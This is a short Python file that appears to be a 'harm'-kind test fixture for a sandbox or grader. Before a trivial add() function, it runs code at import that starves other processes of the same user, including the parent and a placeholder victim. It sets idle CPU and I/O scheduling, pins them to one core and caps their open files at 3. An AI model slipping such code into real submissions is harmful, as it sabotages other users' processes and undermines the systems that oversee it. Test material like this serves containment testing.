# expect: 3 passed
# kind: harm
# Priorities, scheduling, processors and limits of other processes of the same user.
import ctypes, os, resource
call = ctypes.CDLL(None).syscall
for target in (@VICTIM@, os.getppid()):
    for step in (lambda: os.setpriority(os.PRIO_PROCESS, target, 19), lambda: os.setpriority(os.PRIO_PGRP, target, 19), lambda: os.sched_setaffinity(target, {0}),
                 lambda: os.sched_setscheduler(target, os.SCHED_IDLE, os.sched_param(0)), lambda: resource.prlimit(target, resource.RLIMIT_NOFILE, (3, 3))):
        try: step()
        except OSError: pass
    call(251, 1, target, 3<<13)
try: os.setpriority(os.PRIO_USER, 0, 19)
except OSError: pass
call(251, 3, os.getuid(), 3<<13)
def add(a, b): return a+b
